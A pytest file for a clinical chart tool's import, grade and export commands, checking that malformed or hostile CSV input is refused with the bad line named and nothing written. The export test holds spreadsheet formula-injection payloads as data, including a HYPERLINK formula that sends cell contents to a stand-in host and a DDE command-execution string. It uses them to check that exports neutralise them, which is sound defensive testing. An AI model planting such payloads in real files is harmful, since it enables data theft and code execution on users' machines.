"""Hostile chart files through `import` and `grade`: each refused with its line named, exit 2,
nothing written, never a traceback; and an export a spreadsheet cannot run."""

from __future__ import annotations

import csv
import json
import sqlite3
import tracemalloc
from datetime import UTC, datetime

import pytest

from crs_desktop.cli import main
from crs_desktop.commands import grade as grade_command
from crs_desktop.domain.validation import FUTURE_TOLERANCE_S
from crs_desktop.interop.chart_csv import ChartFileError, read_chart_csv
from crs_desktop.store import ChartStore, Entry
from crs_desktop.store.chart_import import import_chart

HEADER = "time,item,value,unit,note\n"
NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC).timestamp()  # the fixed clock
GOOD = HEADER + "2026-11-20T08:00:00Z,temperature,38.2,,\n2026-11-20T08:00:00Z,spo2,96,,\n"


def write(tmp_path, text, name="chart.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "store.sqlite3"
    with ChartStore(path, clock=lambda: NOW) as store:
        store.create_patient("P-OLD", "Old, Pat", actor="setup")
    return path


def patients(db):
    conn = sqlite3.connect(db)
    try:
        return [mrn for (mrn,) in conn.execute("SELECT mrn FROM patients ORDER BY id")]
    finally:
        conn.close()


BAD_TIMES = [
    ("0001-01-01T00:00:00+14:00", "is before 1900"),  # year 0 in UTC
    ("0001-01-01T00:00:00", "is before 1900"),  # local: no zone can even compute it
    ("1899-12-31T23:59:59Z", "is before 1900"),
    ("9999-12-31T23:59:00+14:00", "is in the future"),
    ("2099-01-01T00:00:00Z", "is in the future"),
    ("2026-12-04T12:00:00Z", "is in the future"),  # 3 days ahead of the clock
    ("2026-12-01T12:02:01Z", "is in the future"),  # 121 s ahead: past the tolerance
    ("2026-11-20T08:00:00+15:00", "UTC offset out of range"),
    ("2026-11-20T08:00:00-13:00", "UTC offset out of range"),
]


@pytest.mark.parametrize(("time_text", "problem"), BAD_TIMES)
def test_a_time_outside_1900_to_now_is_refused_naming_the_line(tmp_path, time_text, problem):
    text = GOOD + f"{time_text},temperature,38,,\n"
    with pytest.raises(ChartFileError) as info:
        read_chart_csv(write(tmp_path, text), now=NOW)
    (only,) = info.value.problems
    assert only.startswith(f"line 4: temperature time {time_text!r}: {problem}")


def test_times_up_to_the_tolerance_ahead_and_from_1900_are_accepted(tmp_path):
    assert FUTURE_TOLERANCE_S == 120
    text = HEADER + "2026-12-01T12:02:00Z,heart_rate,80,,\n1900-01-01T00:00:00Z,heart_rate,81,,\n"
    assert [r.valid.value for r in read_chart_csv(write(tmp_path, text), now=NOW)] == [80, 81]


@pytest.mark.parametrize("time_text", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:00:00Z"])
def test_import_and_grade_refuse_year_1_and_9999(tmp_path, db, capsys, time_text):
    path = write(tmp_path, HEADER + f"{time_text},temperature,38,,\n")
    before = db.read_bytes()
    assert main(["import", str(path), "--patient", "Y1", "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert "line 2: temperature time" in err and "nothing was written" in err
    assert db.read_bytes() == before and patients(db) == ["P-OLD"]
    assert main(["grade", str(path), "--json"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and "line 2: temperature time" in captured.err


def test_grade_judges_the_future_by_its_clock(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(grade_command, "clock", lambda: NOW)
    path = write(tmp_path, GOOD + "2026-12-01T13:00:00Z,temperature,39,,\n")
    assert main(["grade", str(path), "--json"]) == 2
    assert "line 4: temperature time '2026-12-01T13:00:00Z': is in the future" in (
        capsys.readouterr().err
    )


def test_the_store_refuses_the_same_times_whichever_way_in(tmp_path):
    with ChartStore(tmp_path / "s.sqlite3", clock=lambda: NOW) as store:
        patient = store.create_patient("M", "N", actor="A")
        year_1 = datetime(1, 1, 1, tzinfo=UTC).timestamp()
        for when, problem in [(year_1, "before 1900"), (NOW + 3 * 86400, "in the future")]:
            with pytest.raises(Exception, match=problem):
                store.chart(patient.id, [Entry("temperature", "38")], observed_at=when, actor="A")
            with pytest.raises(Exception, match=problem):
                store.record_event(patient.id, "note", actor="A", at=when)
        # Rows that passed a reader with another clock are judged again by the store's.
        rows = read_chart_csv(
            write(tmp_path, HEADER + "2026-12-03T00:00:00Z,heart_rate,80,,\n"), now=NOW + 86400 * 5
        )
        with pytest.raises(Exception, match="line 2: heart_rate time: is in the future"):
            import_chart(store, "NEW", rows, name=None, actor="A")
        assert store.patient("NEW") is None
        assert store.rows(patient.id) == []


def test_a_header_only_file_creates_nothing(tmp_path, db, capsys):
    before = db.read_bytes()
    for text in (HEADER, HEADER + "\n,,,,\n"):
        path = write(tmp_path, text)
        assert main(["import", str(path), "--patient", "EMPTY", "--db", str(db)]) == 2
        assert "no values" in capsys.readouterr().err
    assert db.read_bytes() == before and patients(db) == ["P-OLD"]


def test_a_refused_file_does_not_create_a_chart_file(tmp_path, capsys):
    db = tmp_path / "new.sqlite3"
    for text in (HEADER, GOOD + "0001-01-01T00:00:00Z,heart_rate,80,,\n"):
        path = write(tmp_path, text)
        assert main(["import", str(path), "--patient", "NEW", "--db", str(db)]) == 2
        assert "nothing was written" in capsys.readouterr().err
        assert list(tmp_path.glob("new.sqlite3*")) == []


def hostile_value_cases():
    many_digits = "1" * 5000
    return [
        # A 5,000-digit value with a converted unit (int conversion limit, once a traceback).
        (
            HEADER + f"2026-11-20T08:00:00Z,temperature,{many_digits},degF,\n",
            "line 2: temperature '1111",
            "has 5000 digits; at most 20",
        ),
        (
            HEADER + f"2026-11-20T08:00:00Z,crp,0.{many_digits},mg/dL,\n",
            "line 2: crp",
            "at most 20",
        ),
        # Arabic-Indic digits: not read as 38.5.
        (
            HEADER + "2026-11-20T08:00:00Z,temperature,٣٨.٥,,\n",
            "line 2: temperature '٣٨.٥'",
            "digits 0-9",
        ),
        (HEADER + "2026-11-20T08:00:00Z,ice_score,٧,,\n", "line 2: ice_score", "whole number"),
        # A note over 128 KiB: the line named (once "line ?").
        (
            GOOD + '2026-11-20T09:00:00Z,heart_rate,80,,"' + "x" * 200_000 + '"\n',
            "line 4: note of 200,000 characters",
            "at most 131,072",
        ),
    ]


@pytest.mark.parametrize(
    ("text", "where", "problem"),
    hostile_value_cases(),
    ids=["5000-digits-degF", "5000-digits-mg/dL", "arabic-indic", "arabic-indic-ice", "200k-note"],
)
def test_hostile_values_are_one_clear_line_and_exit_2(tmp_path, db, capsys, text, where, problem):
    path = write(tmp_path, text)
    before = db.read_bytes()
    assert main(["import", str(path), "--patient", "H", "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert where in err and problem in err and "Traceback" not in err
    assert len(err) < 2000  # the value is shortened, not echoed whole
    assert db.read_bytes() == before
    assert main(["grade", str(path)]) == 2
    assert where in capsys.readouterr().err


def test_bytes_that_are_not_utf8_name_their_lines(tmp_path, capsys):
    text = (
        GOOD.encode()
        + "2026-11-20T09:00:00Z,heart_rate,80,,café\n".encode("latin-1")
        + b"2026-11-20T09:00:00Z,spo2,97,,fine\n"
        + b"2026-11-20T10:00:00Z,heart_rate,81,,\xff\xfe\n"
    )
    with pytest.raises(ChartFileError) as info:
        read_chart_csv(write(tmp_path, text), now=NOW)
    assert [p.split(":")[0] for p in info.value.problems] == ["line 4", "line 6"]
    assert all("not UTF-8" in p and "byte" not in p for p in info.value.problems)


HOSTILE_NOTES = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB first",
    "\rCR first",
    "'already quoted",
    "''twice",
    "'=both",
]
ORDINARY_NOTES = ["", "says hello", "other_cause", 'with "quotes", and commas', "a - b", "x=1"]


def test_exported_text_cannot_run_in_a_spreadsheet_and_imports_back_exactly(tmp_path):
    first, second = tmp_path / "a.sqlite3", tmp_path / "b.sqlite3"
    notes = HOSTILE_NOTES + ORDINARY_NOTES
    with ChartStore(first, clock=lambda: NOW) as store:
        patient = store.create_patient("S-1", "Sheet, Sam", actor="A")
        for i, note in enumerate(notes):
            store.chart(
                patient.id,
                [Entry("heart_rate", str(60 + i), note=note)],
                observed_at=NOW - 3600 * (i + 1),
                actor="A",
            )
        store.chart(
            patient.id,
            [Entry("car_t_infusion", "=cmd|' /C calc'!A0")],
            observed_at=NOW - 86400,
            actor="A",
        )
    out = tmp_path / "chart.csv"
    assert main(["export", "--db", str(first), "--patient", "S-1", "-o", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for record in list(csv.reader(handle))[1:] for cell in record]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []  # no cell a spreadsheet would run
    for note in ORDINARY_NOTES:  # ordinary notes written byte for byte
        assert note in cells
    assert main(["import", str(out), "--db", str(second), "--patient", "S-2"]) == 0
    with ChartStore(first) as a, ChartStore(second) as b:
        original = a.rows(a.patient("S-1").id)
        copy = b.rows(b.patient("S-2").id)
    assert [(r.item, r.written_value, r.note) for r in copy] == [
        (r.item, r.written_value, r.note) for r in original
    ]
    # And a second round trip writes the same file, byte for byte.
    again = tmp_path / "again.csv"
    assert main(["export", "--db", str(second), "--patient", "S-2", "-o", str(again)]) == 0
    assert again.read_bytes() == out.read_bytes()


def test_grade_json_reasons_give_times_with_their_zone(tmp_path, capsys):
    body = HEADER + "2026-11-20T08:00:00+05:30,temperature,39,,\n"
    assert main(["grade", str(write(tmp_path, body)), "--json"]) == 0
    line = json.loads(capsys.readouterr().out)
    assert line["time"] == "2026-11-20T08:00:00+05:30"
    assert "fever: temperature 39.0 °C at 08:00+05:30" in line["astct_crs"]["reasons"]


def a_long_file(rows: int) -> str:
    """One-minute vitals from 2026-10-01 (before the fixed clock), one value a line."""
    items = ("temperature", "heart_rate", "spo2", "systolic_bp", "resp_rate")
    values = ("37.1", "81", "97", "112", "16")
    start = datetime(2026, 10, 1, tzinfo=UTC).timestamp()
    lines = [HEADER.strip()]
    for i in range(rows):
        moment = datetime.fromtimestamp(start + (i // 5) * 60, UTC)
        lines.append(f"{moment:%Y-%m-%dT%H:%M:%SZ},{items[i % 5]},{values[i % 5]},,r{i}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("mrn", ["P-OLD", "NEW"], ids=["existing-patient", "new-patient"])
def test_a_bad_last_line_of_a_long_file_leaves_nothing_written(
    tmp_path, db, capsys, monkeypatch, mrn
):
    """The import reads and inserts a chunk at a time inside one transaction, so by the last
    line of 50,000 most rows are already inserted: that line rolls them all back (patient
    too), it is named, and the file's rows were never all held in memory at once."""
    from crs_desktop.commands import import_chart as import_command

    real_open = import_command.open_store

    def open_store(args):  # "in the future" judged by the fixed clock, not the wall clock
        store = real_open(args)
        store.clock = lambda: NOW
        return store

    monkeypatch.setattr(import_command, "open_store", open_store)
    rows = 50_000
    path = write(tmp_path, a_long_file(rows) + "2026-11-30T08:00:00Z,heart_rate,fast,,\n")
    before = db.read_bytes()
    tracemalloc.start()
    try:
        code = main(["import", str(path), "--patient", mrn, "--db", str(db)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 2
    err = capsys.readouterr().err
    assert f"line {rows + 2}: heart_rate 'fast'" in err and "nothing was written" in err
    assert "(1 problem(s))" in err and "Traceback" not in err
    assert db.read_bytes() == before and patients(db) == ["P-OLD"]
    with ChartStore(db) as store:
        assert store.rows(store.patient("P-OLD").id) == []
        assert not [a for a in store.audit_rows() if a["action"] == "import"]
    # Held whole, the rows of this 2 MB file took 24 MiB; a chunk at a time, under 8.
    assert peak < 8 * 2**20, f"{peak / 2**20:.1f} MiB"
    # And the same file without its bad line is imported whole.
    path = write(tmp_path, a_long_file(rows))
    assert main(["import", str(path), "--patient", mrn, "--db", str(db)]) == 0
    with ChartStore(db) as store:
        notes = [r.note for r in store.rows(store.patient(mrn).id)]
    assert notes == [f"r{i}" for i in range(rows)]
